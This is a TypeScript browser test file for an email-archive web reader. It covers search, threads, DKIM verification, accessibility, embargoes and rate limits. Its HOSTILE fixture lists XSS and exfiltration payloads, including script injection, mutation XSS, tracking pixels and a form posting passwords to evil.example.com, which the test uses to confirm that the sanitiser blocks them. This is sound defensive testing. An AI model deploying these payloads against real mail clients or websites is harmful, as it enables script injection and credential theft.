import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { buildServer } from '../../src/serve/server.js';
import { BlobStore } from '../../src/store/blobStore.js';
import { SqliteStore } from '../../src/store/sqlite/sqliteStore.js';
import type { SearchResult } from '../../src/store/archiveStore.js';
import { formatKeyFile } from '../../src/verify/keyFile.js';
import { cliJson, runCli, tempDir } from '../helpers.js';
import { keyRecordOf, plainMessage, rsaKey, sign } from '../dkimFixtures.js';
import { launchChromium, newContext, screenshot, watchPage } from '../browser.js';
import { startWebReader } from '../webServer.js';

/**
 * The web reader in a real Chromium: search and follow a facet, open an email, walk its thread,
 * download the raw message, read the DKIM panel; hostile HTML emails run nothing, open nothing and
 * fetch nothing from outside; axe-core finds no serious accessibility violation.
 */

const dir = tempDir();
const data = join(dir, 'data');
const mail = join(dir, 'mail');
const secret = join(dir, 'secret');
const key = rsaKey('web', 'harbour.example.org', 2048);

/** Hostile HTML bodies: each tries to run script, open a dialog or load something from outside. */
const HOSTILE: Record<string, string> = {
  script: `<p>hello</p><script>alert('script')</script><script src="http://evil.example.com/x.js"></script>`,
  handlers: `<img src="x" onerror="alert('onerror')"><body onload="alert('onload')"><div onmouseover="alert(1)">hover</div>`,
  jsLinks: `<a href="javascript:alert('link')">click</a> <a href="JaVaScRiPt:alert(2)">again</a> <a href="data:text/html,<script>alert(3)</script>">data</a>`,
  svg: `<svg><script>alert('svg')</script><animate onbegin="alert('anim')" attributeName="x"/></svg><svg><image href="http://evil.example.com/svg.png"/></svg>`,
  css: `<style>@import url(http://evil.example.com/a.css); body{background:url(http://evil.example.com/bg.png)}</style><div style="background-image:url(http://evil.example.com/inline.png);position:fixed;top:0">css</div>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=http://evil.example.com/"><p>refresh</p>`,
  remoteImages: `<img src="http://tracker.example.com/pixel.gif?id=1" width="1" height="1"><img srcset="http://tracker.example.com/2x.gif 2x"><img src="//tracker.example.com/proto.gif">`,
  forms: `<form action="http://evil.example.com/steal" method="post"><input name="password"><button>Log in</button></form>`,
  embeds: `<iframe src="http://evil.example.com/frame"></iframe><object data="http://evil.example.com/o.swf"></object><embed src="http://evil.example.com/e"><base href="http://evil.example.com/"><link rel="stylesheet" href="http://evil.example.com/l.css">`,
  mutation: `<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>`,
};

function htmlMessage(name: string, html: string): string {
  return [
    'From: Spoofer <spoof@evil.example.com>',
    'To: reader@example.net',
    `Subject: Hostile ${name}`,
    'Date: Tue, 2 Jun 2020 10:00:00 +0000',
    `Message-ID: <hostile-${name}@test>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><head><title>x</title></head><body>${html}</body></html>`,
    '',
  ].join('\r\n');
}

let browser: Browser;
let store: SqliteStore;
let origin: string;
let closeReader: (() => Promise<void>) | undefined;

before(async () => {
  mkdirSync(mail);
  const root = plainMessage('Harbour Press <press@harbour.example.org>', 'Budget for the north basin', 'The budget for the north basin dredging is ready.\r\n');
  writeFileSync(join(mail, '01.eml'), await sign(root, key));
  const reply = [
    'From: Alice <alice@example.net>',
    'To: press@harbour.example.org',
    'Subject: Re: Budget for the north basin',
    'Date: Tue, 2 Jun 2020 09:00:00 +0000',
    'Message-ID: <reply@test>',
    'In-Reply-To: <Budgetforthenorthbasin@test>',
    'References: <Budgetforthenorthbasin@test>',
    '',
    'Thanks, the budget looks fine.',
    '',
  ].join('\r\n');
  writeFileSync(join(mail, '02.eml'), reply);
  // A reply that quotes five lines and ends with a signature: folded and dimmed on its page.
  const quoting = [
    'From: Harbour Press <press@harbour.example.org>',
    'To: alice@example.net',
    'Subject: Re: Re: Minutes of the pier meeting',
    'Date: Wed, 3 Jun 2020 10:00:00 +0000',
    'Message-ID: <quoting@test>',
    '',
    'Agreed, see you at the pier.',
    '',
    '> On Tuesday Alice wrote:',
    '> the pier meeting moves to Thursday,',
    '> the room is booked from ten,',
    '> bring the tide tables,',
    '> and the harbour map.',
    '',
    '-- ',
    'Harbour Press desk',
    '',
  ].join('\r\n');
  writeFileSync(join(mail, '03.eml'), quoting);
  // The same name from another address of the press office: listed beside it, not merged.
  const otherDesk = [
    'From: Harbour Press <desk@harbour.example.org>',
    'To: alice@example.net',
    'Subject: Tide tables for the pier',
    'Date: Wed, 3 Jun 2020 11:00:00 +0000',
    'Message-ID: <desk@test>',
    '',
    'The tide tables are attached to the notice board.',
    '',
  ].join('\r\n');
  writeFileSync(join(mail, '04.eml'), otherDesk);
  Object.entries(HOSTILE).forEach(([name, html], i) => writeFileSync(join(mail, `h${String(i).padStart(2, '0')}.eml`), htmlMessage(name, html)));
  writeFileSync(join(dir, 'keys.txt'), formatKeyFile([keyRecordOf(key)]));
  assert.equal((await runCli(['--data', data, 'init', '--title', 'Test Harbour'])).code, 0);
  assert.equal((await runCli(['--data', data, 'keys', 'import', join(dir, 'keys.txt')])).code, 0);
  await cliJson(['--data', data, 'ingest', mail, '--json']);
  assert.equal((await runCli(['--data', data, 'release', 'create', '--title', 'Part 1', '--all-remaining'])).code, 0);
  assert.equal((await runCli(['--data', data, 'release', 'publish', '1'])).code, 0);
  // Then an embargoed part: a reply in the public thread, and a message with an attachment.
  mkdirSync(secret);
  const secretReply = [
    'From: Whistle <whistle@embargo.example.org>',
    'To: press@harbour.example.org',
    'Subject: Re: Budget for the north basin',
    'Date: Wed, 3 Jun 2020 09:00:00 +0000',
    'Message-ID: <secret-reply@test>',
    'In-Reply-To: <Budgetforthenorthbasin@test>',
    'References: <Budgetforthenorthbasin@test>',
    '',
    'The zanzibarite budget dredging figures are not what you were told.',
    '',
  ].join('\r\n');
  writeFileSync(join(secret, 's1.eml'), secretReply);
  const attachment = [
    'From: Whistle <whistle@embargo.example.org>',
    'To: reader@example.net',
    'Subject: Zanzibarite ledger',
    'Date: Thu, 4 Jun 2020 09:00:00 +0000',
    'Message-ID: <secret-ledger@test>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    'The zanzibarite ledger, attached.',
    '--b',
    'Content-Type: text/csv; name="ledger.csv"',
    'Content-Disposition: attachment; filename="ledger.csv"',
    '',
    'item;eur',
    'dredging;900000',
    '--b--',
    '',
  ].join('\r\n');
  writeFileSync(join(secret, 's2.eml'), attachment);
  await cliJson(['--data', data, 'ingest', secret, '--json']);
  assert.equal((await runCli(['--data', data, 'release', 'create', '--title', 'Part 2', '--all-remaining'])).code, 0);
  ({ store, origin, close: closeReader } = await startWebReader(data, { audience: 'public', collection: 'Test Harbour' }));
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await closeReader?.();
});

async function idOf(subject: string): Promise<number> {
  const result = (await (await fetch(`${origin}/api/search?q=${encodeURIComponent(`subject:"${subject}"`)}`)).json()) as SearchResult;
  return result.hits[0]!.message.id;
}

test('search, follow a facet, open an email, walk its thread, read the DKIM panel', async () => {
  const context = await newContext(browser);
  const page = await context.newPage();
  const watch = watchPage(page, origin);
  await page.goto(`${origin}/`);
  await screenshot(page, 'home');
  await page.fill('input[name=q]', 'budget');
  await page.click('header button[type=submit]');
  await page.waitForURL(/\/search\?q=budget/);
  assert.match((await page.textContent('main'))!, /2 results/);
  await screenshot(page, 'search');
  // The sender facet narrows the search to one sender.
  await page.click('section.facet:has(h3:text("Senders")) a:text("press@harbour.example.org")');
  await page.waitForURL(/from%3Apress%40harbour\.example\.org/);
  assert.match((await page.textContent('main'))!, /1 results/);
  await page.click('ol.hits a');
  await page.waitForURL(/\/emails\/\d+$/);
  const panel = (await page.textContent('section.dkim'))!;
  assert.match(panel, /DKIM verified by harbour\.example\.org/);
  assert.match(panel, /web\._domainkey\.harbour\.example\.org/);
  await screenshot(page, 'email');
  // Thread: the reply is listed, and its page links back.
  await page.click('ol.thread a:text("Re: Budget for the north basin")');
  await page.waitForURL(/\/emails\/\d+$/);
  assert.match((await page.textContent('h1'))!, /^Re: Budget/);
  await page.click('section h2 a');
  await page.waitForURL(/\/threads\/\d+$/);
  assert.equal(await page.locator('ol.thread li').count(), 2);
  assert.deepEqual(watch.dialogs, []);
  assert.deepEqual(watch.foreignRequests, []);
  await context.close();
});

test('keyboard: the first Tab reaches the skip link, then the search box; focus is visible', async () => {
  const context = await newContext(browser);
  const page = await context.newPage();
  await page.goto(`${origin}/`);
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement?.className), 'skip');
  const outline = await page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle);
  assert.notEqual(outline, 'none', 'a visible focus ring');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'q');
  await page.keyboard.type('budget');
  await page.keyboard.press('Enter');
  await page.waitForURL(/\/search\?q=budget/);
  await context.close();
});

test('the raw download is the stored blob, byte for byte', async () => {
  const id = await idOf('Budget for the north basin');
  const context = await newContext(browser);
  const page = await context.newPage();
  await page.goto(`${origin}/emails/${id}`);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('a[href$="/raw"]')]);
  const bytes = readFileSync((await download.path())!);
  const message = await store.getMessage(id);
  assert.ok(bytes.equals(readFileSync(new BlobStore(data).pathOf(message!.sha256))));
  assert.equal(download.suggestedFilename(), `${id}.eml`);
  const head = await fetch(`${origin}/emails/${id}/raw`, { headers: { range: 'bytes=0-4' } });
  assert.equal(head.status, 206);
  assert.equal(head.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(await head.text(), bytes.subarray(0, 5).toString());
  await context.close();
});

test('hostile email HTML runs nothing, opens nothing, loads nothing from outside', async () => {
  const context = await newContext(browser);
  for (const name of Object.keys(HOSTILE)) {
    const page = await context.newPage();
    const watch = watchPage(page, origin);
    const id = await idOf(`Hostile ${name}`);
    await page.goto(`${origin}/emails/${id}`);
    const frame = page.frameLocator('iframe.email-html');
    await frame.locator('body').waitFor({ state: 'attached' });
    await page.waitForTimeout(300); // time for anything that would fire (onload, refresh, animations)
    assert.deepEqual(watch.dialogs, [], `${name}: dialogs`);
    assert.deepEqual(watch.foreignRequests, [], `${name}: requests outside the test server`);
    assert.equal(page.url(), `${origin}/emails/${id}`, `${name}: the page was not navigated away`);
    const inner = await frame.locator('body').innerHTML();
    assert.doesNotMatch(inner, /<script|onerror|onload|javascript:|<iframe|<object|<embed|<form|<meta|<style|<base|<link/i, `${name}: ${inner}`);
    if (name === 'remoteImages') assert.match(inner, /remote image not loaded/);
    if (name === 'script') await screenshot(page, 'email-hostile-html');
    await page.close();
  }
  await context.close();
});

test('axe-core finds no accessibility violation on any page type, at desktop and phone widths, light and dark, in English and French', async () => {
  const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
  const id = await idOf('Budget for the north basin');
  const message = await store.getMessage(id);
  const attachment = (await (await fetch(`${origin}/api/search?q=has:attachment`)).json()) as SearchResult;
  const withAttachment = attachment.hits[0] ? await store.getMessage(attachment.hits[0].message.id) : undefined;
  const sha = withAttachment?.attachments.find((a) => !a.inline)?.sha256;
  const pages: Array<readonly [string, string]> = [
    ['home', '/'],
    ['search', '/search?q=budget'],
    ['search-empty', '/search?q=zzzznothing'],
    ['search-error', '/search?q=from%3A'],
    ['search-form', '/search'],
    ['facet', '/search/facet?q=budget&facet=senders'],
    ['email', `/emails/${id}`],
    ...(withAttachment ? [['email-attachment', `/emails/${withAttachment.id}`] as const] : []),
    ['thread', `/threads/${message!.threadId}`],
    ['person', `/people/${encodeURIComponent(message!.from!.address)}`],
    ['people', '/people'],
    ['dates', '/dates'],
    ['month', '/dates/2020-06'],
    ['day', `/dates/${new Date(message!.dateUtc!).toISOString().slice(0, 10)}`],
    ['releases', '/releases'],
    ['release', '/releases/1'],
    ['attachments', '/attachments'],
    ...(sha ? [['attachment', `/attachments/${sha}`] as const] : []),
    ['keys', '/keys'],
    ['about', '/about'],
    ['accessibility', '/accessibility'],
    ['amendments', '/amendments'],
    ['status', '/status'],
    ['not-found', '/emails/99999'],
  ];
  // axe is injected by the test itself; the site's CSP (rightly) refuses inline script otherwise.
  const runs = [
    { width: 1280, height: 900, scheme: 'light', lang: 'en' },
    { width: 390, height: 844, scheme: 'dark', lang: 'en' },
    { width: 1280, height: 900, scheme: 'dark', lang: 'fr' },
    { width: 390, height: 844, scheme: 'light', lang: 'fr' },
  ] as const;
  const found: string[] = [];
  for (const run of runs) {
    const context = await browser.newContext({
      bypassCSP: true,
      locale: run.lang,
      colorScheme: run.scheme,
      viewport: { width: run.width, height: run.height },
    });
    const page = await context.newPage();
    for (const [name, path] of pages) {
      await page.goto(`${origin}${path}${path.includes('?') ? '&' : '?'}lang=${run.lang}`);
      await page.evaluate(axeSource);
      const violations = (await page.evaluate(async () => {
        const result = await (
          globalThis as unknown as {
            axe: { run: () => Promise<{ violations: Array<{ id: string; impact: string; nodes: Array<{ target: unknown }> }> }> };
          }
        ).axe.run();
        return result.violations.map((v) => `${v.id} (${v.impact}): ${JSON.stringify(v.nodes.slice(0, 3).map((n) => n.target))}`);
      })) as string[];
      for (const v of violations) found.push(`${name} ${run.width}px ${run.scheme} ${run.lang}: ${v}`);
      // What a reviewer looks at: every page type at both widths, light and dark (test-artifacts/, not committed).
      await screenshot(page, `page-${name}-${run.width}-${run.scheme}-${run.lang}`);
    }
    await context.close();
  }
  assert.deepEqual(found, []);
});

test('the reader: a verdict banner, quoted text folded, no chart for one month, search help that works here, a 404 with a way on, a glossary and a recipe that verifies', async () => {
  const context = await newContext(browser);
  const page = await context.newPage();
  // The verdict banner comes before the headers, in the verdict's colour, in plain words.
  const verified = (await (await fetch(`${origin}/api/search?q=dkim:verified`)).json()) as SearchResult;
  assert.equal(verified.total, 1);
  const signed = verified.hits[0]!.message.id;
  await page.goto(`${origin}/emails/${signed}`);
  const banner = page.locator('article > .verdict-banner');
  assert.match((await banner.getAttribute('class')) ?? '', /verdict-verified/);
  assert.match(await banner.innerText(), /DKIM verified by harbour\.example\.org[\s\S]*mail server of harbour\.example\.org signed this message/);
  assert.ok(
    await page.evaluate(() => {
      const b = document.querySelector('article > .verdict-banner')!;
      return b.compareDocumentPosition(document.querySelector('dl.headers')!) === Node.DOCUMENT_POSITION_FOLLOWING;
    }),
    'the banner is above the headers',
  );
  const colours = await page.evaluate(() => [
    getComputedStyle(document.querySelector('.verdict-banner')!).borderLeftColor,
    getComputedStyle(document.body).color,
  ]);
  assert.notEqual(colours[0], colours[1], 'the banner has a colour of its own');
  assert.equal(await page.locator('.verdict-banner a[href="/about#verdict-verified"]').count(), 1);

  // Quoted lines folded (closed, saying how many), the signature dimmed; every character of the text still in the page.
  const quoting = await idOf('Re: Re: Minutes of the pier meeting');
  await page.goto(`${origin}/emails/${quoting}`);
  const fold = page.locator('.body details.quoted');
  assert.equal(await fold.count(), 1);
  assert.equal(await fold.evaluate((d) => (d as HTMLDetailsElement).open), false);
  assert.match(await fold.locator('summary').innerText(), /Quoted text \(5 lines\)/);
  assert.equal(await page.locator('.body .quoted').isVisible(), true);
  // Whether the quoted words are drawn (checkVisibility: a closed details draws nothing but its summary).
  const drawn = () => page.locator('.body details.quoted > .quote').evaluate((e) => e.checkVisibility());
  assert.equal(await drawn(), false, 'folded');
  await fold.locator('summary').click();
  assert.equal(await drawn(), true, 'unfolded on a click');
  const text = (await store.getMessage(quoting))!.text!;
  const shown = await page.evaluate(() => {
    const body = document.querySelector('.body')!.cloneNode(true) as HTMLElement;
    for (const s of body.querySelectorAll('summary')) s.remove();
    return body.textContent;
  });
  assert.equal(shown, text, 'the folded page holds the text exactly');
  assert.match(await page.locator('.body .signature').innerText(), /^-- \n?Harbour Press desk/);
  const dim = await page.evaluate(() => [
    getComputedStyle(document.querySelector('.body .signature')!).color,
    getComputedStyle(document.querySelector('.body')!).color,
  ]);
  assert.notEqual(dim[0], dim[1], 'the signature is dimmed');

  // The home page's chart: a picture with a title and a description, and the same numbers as a table.
  await page.goto(`${origin}/`);
  const chart = page.locator('figure.chart svg[role="img"]');
  assert.equal(await chart.count(), 0, 'one month of mail: no chart');
  // Search help: open on an empty result, every example finds something in this archive.
  await page.goto(`${origin}/search?q=zzzznothing`);
  assert.equal(await page.locator('details.search-help').evaluate((d) => (d as HTMLDetailsElement).open), true);
  const examples = await page
    .locator('details.search-help table a')
    .evaluateAll((links) => links.map((a) => new URL((a as HTMLAnchorElement).href).searchParams.get('q')!));
  assert.ok(examples.length >= 8, examples.join(' | '));
  for (const q of examples) {
    const found = (await (await fetch(`${origin}/api/search?q=${encodeURIComponent(q)}`)).json()) as SearchResult;
    assert.ok(found.total > 0, `the example ${q} finds something`);
  }
  await page.goto(`${origin}/search?q=budget`);
  assert.equal(await page.locator('details.search-help').evaluate((d) => (d as HTMLDetailsElement).open), false, 'folded when there are results');

  // The people index: everyone public, with the name they write under and their counts, busiest first.
  await page.goto(`${origin}/people`);
  const people = await page.locator('main tbody tr').evaluateAll((rows) => rows.map((r) => [...r.querySelectorAll('td')].map((td) => td.textContent)));
  const press = people.find((r) => r[1] === 'press@harbour.example.org');
  assert.deepEqual(press?.slice(0, 1), ['Harbour Press']);
  const sentByPress = ((await (await fetch(`${origin}/api/search?q=${encodeURIComponent('from:press@harbour.example.org')}`)).json()) as SearchResult).total;
  assert.equal(Number(press![2]), sentByPress);
  const totals = people.map((r) => Number(r[2]) + Number(r[3]));
  assert.deepEqual(
    totals,
    [...totals].sort((a, b) => b - a),
    'busiest first',
  );
  await page.goto(`${origin}/people?sort=address`);
  const addresses = await page.locator('main tbody tr td:nth-child(2)').allInnerTexts();
  assert.deepEqual(
    addresses,
    [...addresses].sort((a, b) => a.localeCompare(b)),
  );

  // The same two-word name from two addresses: each page names the other (and says it merges nothing); a first name alone is no evidence.
  await page.goto(`${origin}/people/press%40harbour.example.org`);
  assert.match(await page.locator('p.aliases').innerText(), /The name “Harbour Press” also writes from: desk@harbour\.example\.org \(1\)[\s\S]*does not merge/);
  const desk = (await (await fetch(`${origin}/api/people/desk%40harbour.example.org`)).json()) as { sameName: Array<{ address: string }> };
  assert.deepEqual(
    desk.sameName.map((a) => a.address),
    ['press@harbour.example.org'],
  );
  const alice = (await (await fetch(`${origin}/api/people/alice%40example.net`)).json()) as { sameName: unknown[] };
  assert.deepEqual(alice.sameName, []);

  // Browse by date: the month with its public count, then its days, each a search of that day with the same count.
  await page.goto(`${origin}/dates`);
  const june = ((await (await fetch(`${origin}/api/search?q=${encodeURIComponent('after:2020-06 before:2020-07')}`)).json()) as SearchResult).total;
  assert.match(await page.locator('ul.months').innerText(), new RegExp(`June 2020 \\(${june}\\)`));
  await page.click('text=June 2020');
  await page.waitForURL(/\/dates\/2020-06$/);
  const days = await page.locator('ol.days li').allInnerTexts();
  assert.equal(days.length, 30);
  const counted = days.map((d) => Number(/\((\d+)\)/.exec(d)![1]));
  assert.equal(
    counted.reduce((a, b) => a + b, 0),
    june,
    'the days add up to the month',
  );
  const busyDay = counted.findIndex((n) => n > 0);
  await page.click(`ol.days li:nth-child(${busyDay + 1}) a`);
  const day = `2020-06-${String(busyDay + 1).padStart(2, '0')}`;
  await page.waitForURL(new RegExp(`/dates/${day}$`));
  const next = `2020-06-${String(busyDay + 2).padStart(2, '0')}`;
  const ofDay = (await (await fetch(`${origin}/api/search?q=${encodeURIComponent(`after:${day} before:${next}`)}&limit=500`)).json()) as SearchResult;
  assert.equal(counted[busyDay], ofDay.total, 'a day page lists the messages of that day');
  const listed = await page.locator('ol.messages a').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
  assert.deepEqual(
    listed.filter((h) => /^\/emails\/\d+$/.test(h ?? '')),
    ofDay.hits.map((h) => `/emails/${h.message.id}`),
    'the same messages as the search of that day, newest first',
  );
  for (const bad of ['/dates/2020-13', '/dates/1999-01', '/dates/2020-02-30', '/dates/2020-06-31', '/dates/1999-01-01', '/dates/x'])
    assert.equal((await fetch(`${origin}${bad}`)).status, 404, bad);

  // A 404 says why and offers a search and the way home.
  const missing = await page.goto(`${origin}/emails/99999`);
  assert.equal(missing!.status(), 404);
  await page.fill('#q404', 'budget');
  await page.press('#q404', 'Enter');
  await page.waitForURL(/\/search\?q=budget/);
  await page.goto(`${origin}/emails/99999`);
  assert.equal(await page.locator('main a[href="/"]').count(), 1);

  // The glossary names every verdict; the recipe verifies a signed message with dkimpy and the archived keys, and refuses it altered.
  await page.goto(`${origin}/about`);
  for (const verdict of ['verified', 'body-altered', 'signature-invalid', 'key-unavailable', 'no-signature'])
    assert.equal(await page.locator(`#verdict-${verdict}`).count(), 1, verdict);
  await context.close();
  const work = join(dir, 'recipe');
  mkdirSync(work, { recursive: true });
  const download = async (path: string, file: string) => writeFileSync(join(work, file), Buffer.from(await (await fetch(`${origin}${path}`)).arrayBuffer()));
  await download('/static/verify-dkim.py', 'verify-dkim.py');
  await download('/keys.txt', 'keys.txt');
  await download(`/emails/${signed}/raw`, 'message.eml');
  const python = (file: string) =>
    spawnSync('/usr/bin/python3', [join(work, 'verify-dkim.py'), join(work, file), join(work, 'keys.txt')], { encoding: 'utf8' });
  const good = python('message.eml');
  assert.equal(good.status, 0, good.stdout + good.stderr);
  assert.match(good.stdout, /verified with the archived key/);
  writeFileSync(join(work, 'altered.eml'), readFileSync(join(work, 'message.eml'), 'utf8').replace('is ready', 'is late'));
  const bad = python('altered.eml');
  assert.equal(bad.status, 1, bad.stdout + bad.stderr);
  assert.match(bad.stdout, /NOT verified/);
});

test("what the publisher says of the collection (epistola config) is on the home, about and accessibility pages and in the pages' description for sharing", async () => {
  const set = await runCli([
    '--data',
    data,
    'config',
    '--description',
    'Letters of the harbour board, 2020.',
    '--publisher',
    'The Harbour Gazette',
    '--source',
    'A records request',
    '--licence',
    'CC BY 4.0',
    '--contact',
    'desk@gazette.example.org',
    '--json',
  ]);
  assert.equal(set.code, 0, set.stderr.toString());
  const config = JSON.parse(set.stdout.toString()) as { title: string; about: Record<string, string> };
  assert.equal(config.title, 'Test Harbour');
  assert.equal(config.about.licence, 'CC BY 4.0');
  assert.equal((await runCli(['--data', data, 'config', '--title', ''])).code, 2, 'an empty title is refused');
  const { readFile } = await import('node:fs/promises');
  const saved = JSON.parse(await readFile(join(data, 'epistola.json'), 'utf8')) as { about: Record<string, string> };
  const app = await buildServer({ store, blobs: new BlobStore(data), blobRoot: join(data, 'blobs'), collection: 'Test Harbour', about: saved.about });
  try {
    const answer = async (path: string) => (await app.inject({ method: 'GET', url: path })).body;
    const home = await answer('/');
    assert.match(home, /<p class="description">Letters of the harbour board, 2020\.<\/p>/);
    assert.match(home, /Published by The Harbour Gazette/);
    assert.match(home, /<meta name="description" content="Letters of the harbour board, 2020\."/);
    assert.match(home, /<meta property="og:site_name" content="Test Harbour"/);
    const about = await answer('/about');
    for (const text of ['A records request', 'CC BY 4.0', 'href="mailto:desk@gazette.example.org"']) assert.ok(about.includes(text), text);
    assert.match(await answer('/accessibility?lang=fr'), /Écrivez à l’éditeur : <a href="mailto:desk@gazette\.example\.org">/);
    // Removed again: an empty value removes the field.
    assert.equal((await runCli(['--data', data, 'config', '--contact', ''])).code, 0);
    assert.equal((JSON.parse(await readFile(join(data, 'epistola.json'), 'utf8')) as { about: Record<string, string> }).about.contact, undefined);
  } finally {
    await app.close();
  }
  const plain = await (await fetch(`${origin}/emails/99999`)).text();
  assert.match(plain, /<meta name="description" content="Test Harbour: e-mails with their raw sources and DKIM proofs\."/);
});

test('French from Accept-Language, dates in French; 404 and query errors are pages, not stack traces', async () => {
  const id = await idOf('Budget for the north basin');
  const fr = await (await fetch(`${origin}/emails/${id}`, { headers: { 'accept-language': 'fr-FR,fr;q=0.9,en;q=0.5' } })).text();
  assert.match(fr, /<html lang="fr"/);
  assert.match(fr, /Pièces jointes|Authenticité \(DKIM\)/);
  assert.match(fr, /juin 2020/);
  const missing = await fetch(`${origin}/emails/999999`);
  assert.equal(missing.status, 404);
  const bad = await fetch(`${origin}/search?q=${encodeURIComponent('(budget')}`);
  assert.equal(bad.status, 400);
  assert.match(await bad.text(), /query error at column/);
  const api = await fetch(`${origin}/api/search?q=${encodeURIComponent('dkim:maybe')}`);
  assert.equal(api.status, 400);
  assert.match(((await api.json()) as { error: string }).error, /column/);
});

test('query errors name the real cause; the caret sits under the right character on the page', async () => {
  const typo = await fetch(`${origin}/search?q=${encodeURIComponent('budget form:marta')}`);
  assert.equal(typo.status, 400);
  const page = await typo.text();
  assert.match(page, /unknown field form: — did you mean from:\?/);
  const pre = /<pre class="query-error">([\s\S]*?)<\/pre>/.exec(page)?.[1] ?? '';
  const lines = pre
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .split('\n');
  const [queryLine, caretLine] = [lines[lines.length - 2]!, lines[lines.length - 1]!];
  assert.equal(queryLine.slice(caretLine.indexOf('^')), 'form:marta', `the caret points at the unknown field: ${JSON.stringify(lines)}`);
  const quote = (await (await fetch(`${origin}/api/search?q=${encodeURIComponent('from:(unclosed "quote')}`)).json()) as { detail: string };
  assert.match(quote.detail, /column 16: this quote is never closed/);
});

test('downloads: thread and search as mbox; ETags and the CSP on pages; no admin routes', async () => {
  const id = await idOf('Budget for the north basin');
  const message = await store.getMessage(id);
  const thread = await fetch(`${origin}/threads/${message!.threadId}/mbox`);
  assert.equal(thread.headers.get('content-type'), 'application/mbox');
  const mbox = await thread.text();
  assert.equal(mbox.match(/^From \S+ \w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d \d{4}$/gm)?.length, 2);
  const search = await (await fetch(`${origin}/search.mbox?q=hostile`)).text();
  assert.equal(search.match(/^From /gm)?.length, Object.keys(HOSTILE).length);
  const page = await fetch(`${origin}/emails/${id}`);
  const etag = page.headers.get('etag');
  assert.ok(etag);
  assert.equal((await fetch(`${origin}/emails/${id}`, { headers: { 'if-none-match': etag } })).status, 304);
  assert.match(page.headers.get('content-security-policy') ?? '', /default-src 'none'/);
  for (const method of ['POST', 'PUT', 'DELETE']) assert.equal((await fetch(`${origin}/emails/${id}`, { method })).status, 404);
});

test('search is rate limited per client with a clear 429 page', async () => {
  const limited = await buildServer({ store, blobs: new BlobStore(data), blobRoot: join(data, 'blobs'), collection: 'Test Harbour', rateLimitPerMinute: 3 });
  await limited.listen({ port: 0, host: '127.0.0.1' });
  const address = limited.server.address();
  const base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  try {
    const statuses = [];
    for (let i = 0; i < 4; i++) statuses.push((await fetch(`${base}/search?q=budget`)).status);
    assert.deepEqual(statuses, [200, 200, 200, 429]);
    const page = await fetch(`${base}/search?q=budget`, { headers: { 'accept-language': 'fr' } });
    assert.equal(page.status, 429);
    assert.match(await page.text(), /Trop de requêtes/);
    assert.equal((await fetch(`${base}/emails/${await idOf('Budget for the north basin')}`)).status, 200, 'reading an email is not limited');
  } finally {
    await limited.close();
  }
});

test('pages are cached until the archive changes: an ingest beside the server shows at once', async () => {
  type Stats = { messages: number };
  const before = ((await (await fetch(`${origin}/api/stats`)).json()) as Stats).messages;
  assert.equal(((await (await fetch(`${origin}/api/stats`)).json()) as Stats).messages, before, 'served again (from the cache)');
  const more = join(dir, 'more');
  mkdirSync(more);
  writeFileSync(join(more, 'late.eml'), plainMessage('Late <late@example.org>', 'Arrived later', 'A message ingested while the server runs.\r\n'));
  await cliJson(['--data', data, 'ingest', more, '--json']);
  assert.equal(((await (await fetch(`${origin}/api/stats`)).json()) as Stats).messages, before, 'ingested is not published');
  assert.equal((await runCli(['--data', data, 'release', 'create', '--title', 'Part 3', '--query', 'subject:"Arrived later"'])).code, 0);
  assert.equal((await runCli(['--data', data, 'release', 'publish', '3'])).code, 0);
  assert.equal(((await (await fetch(`${origin}/api/stats`)).json()) as Stats).messages, before + 1, 'published: visible at once');
  assert.equal((await idOf('Arrived later')) > 0, true);
  const releases = (await (await fetch(`${origin}/api/releases`)).json()) as Array<{ number: number }>;
  assert.deepEqual(
    releases.map((r) => r.number),
    [1, 3],
    'release 2 stays embargoed',
  );
});

test('embargoed messages are unreachable: every id on every route, search, facets, threads, feeds, people, stats', async () => {
  const publisher = SqliteStore.open(join(data, 'archive.sqlite'), { readonly: true });
  try {
    const all = (await publisher.rawRefs({ afterId: 0, limit: 1000 })).map((r) => r.id);
    const visibleIds = new Set<number>();
    for (const id of all) if (await store.getMessage(id)) visibleIds.add(id);
    const hidden = all.filter((id) => !visibleIds.has(id));
    assert.ok(hidden.length >= 2, `the embargoed messages exist for the publisher: ${hidden}`);
    for (const id of hidden) {
      for (const path of [
        `/emails/${id}`,
        `/emails/${id}/raw`,
        `/emails/${id}/html`,
        `/emails/${id}/attachments/0`,
        `/emails/${id}/attachments/1`,
        `/emails/${id}/proof.tar.gz`,
        `/api/emails/${id}`,
        `/threads/${id}`,
        `/api/threads/${id}`,
      ]) {
        assert.equal((await fetch(`${origin}${path}`)).status, 404, path);
      }
    }
    for (const id of visibleIds) assert.equal((await fetch(`${origin}/emails/${id}`)).status, 200);
    const api = await (await fetch(`${origin}/api/emails/${[...visibleIds][0]}`)).text();
    assert.ok(!api.includes(dir), "no path of the publisher's machine in the API");
    const search = (await (await fetch(`${origin}/api/search?q=zanzibarite`)).json()) as SearchResult;
    assert.equal(search.total, 0);
    const budget = (await (await fetch(`${origin}/api/search?q=budget`)).json()) as SearchResult;
    assert.equal(budget.total, 2, 'the embargoed reply does not count');
